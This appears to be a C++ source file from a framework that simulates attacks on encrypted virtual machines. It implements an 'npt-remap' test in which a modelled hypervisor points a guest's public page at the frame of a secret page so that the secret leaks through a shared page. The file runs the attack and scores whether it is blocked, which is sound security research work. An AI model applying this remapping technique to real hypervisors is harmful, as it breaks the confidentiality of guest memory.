#include "attacks/npt_remap.h"

#include <fmt/format.h>

#include "attacks/fn_guest.h"

namespace cbit::attacks {
namespace {
constexpr uint64_t kSecretA = 0x200000, kPublicB = 0x201000, kShared = 0x202000;
constexpr uint64_t kTables = 0x300000;
constexpr size_t kLen = 48;
constexpr std::string_view kSecret = "SECRET-A: ssh-ed25519 private key 0x9f3c...";
constexpr std::string_view kPublic = "PUBLIC-B: hello from the guest's web server";

Bytes padded(std::string_view s) {
  Bytes b(kLen, 0);
  std::copy(s.begin(), s.end(), b.begin());
  return b;
}
}  // namespace

SevAttackResult npt_remap(HostAttacker& attacker, SevMode mode) {
  SevAttackResult r;
  r.attack = "npt-remap";
  r.mode = mode;
  auto vm = attacker.hypervisor().launch_vm(mode);
  int requests = 0;
  FnGuest guest([&](GuestCpu& cpu) {
    if (requests++ == 0) {
      const uint64_t c = guest_cbit_mask(cpu);
      guest_identity_paging(cpu, kTables, {{kSecretA, true}, {kPublicB, true}, {kShared, false}},
                            c);
      cpu.write_virt(VirtAddr(kSecretA), padded(kSecret));
      cpu.write_virt(VirtAddr(kPublicB), padded(kPublic));
    }
    // Serve one request: the public page goes out through the shared page.
    Bytes b(kLen);
    cpu.read_virt(VirtAddr(kPublicB), b);
    cpu.write_virt(VirtAddr(kShared), b);
  });
  const auto hv_reads_shared = [&] {
    Bytes b(kLen);
    vm->memory().read(GuestPhysAddr(kShared), b);
    return b;
  };

  vm->run(guest);
  const Bytes before = hv_reads_shared();  // control: the channel hands out B
  const SysPhysAddr spa_a = *vm->memory().gpa_to_spa(GuestPhysAddr(kSecretA));
  const SysPhysAddr spa_b = *vm->memory().gpa_to_spa(GuestPhysAddr(kPublicB));
  const auto leaf = vm->npt().lookup(GuestPhysAddr(kPublicB));
  vm->npt().map_page(GuestPhysAddr(kPublicB), spa_a, true, leaf ? leaf->c_bit : true);
  vm->run(guest);
  const Bytes after = hv_reads_shared();

  const bool channel_ok = printable(before) == kPublic;
  const bool leaked = printable(after) == kSecret;
  r.evidence = {{"shared_page_before_remap", printable(before)},
                {"shared_page_after_remap", printable(after)},
                {"spa_a", fmt::format("{:#x}", spa_a.value)},
                {"spa_b", fmt::format("{:#x}", spa_b.value)},
                {"requests_served", requests}};
  r.verdict = !channel_ok ? Verdict::Error : leaked ? Verdict::Succeeded : Verdict::Blocked;
  r.got = leaked ? "page A via B's GPA" : "B's GPA gives garbage";
  r.detail = fmt::format("NPT: GPA {:#x} -> SPA {:#x} (A's frame); the guest then served \"{}\"",
                         kPublicB, spa_a.value, printable(after));
  if (!channel_ok) r.detail = "the public channel did not work: \"" + printable(before) + "\"";
  return r;
}

}  // namespace cbit::attacks
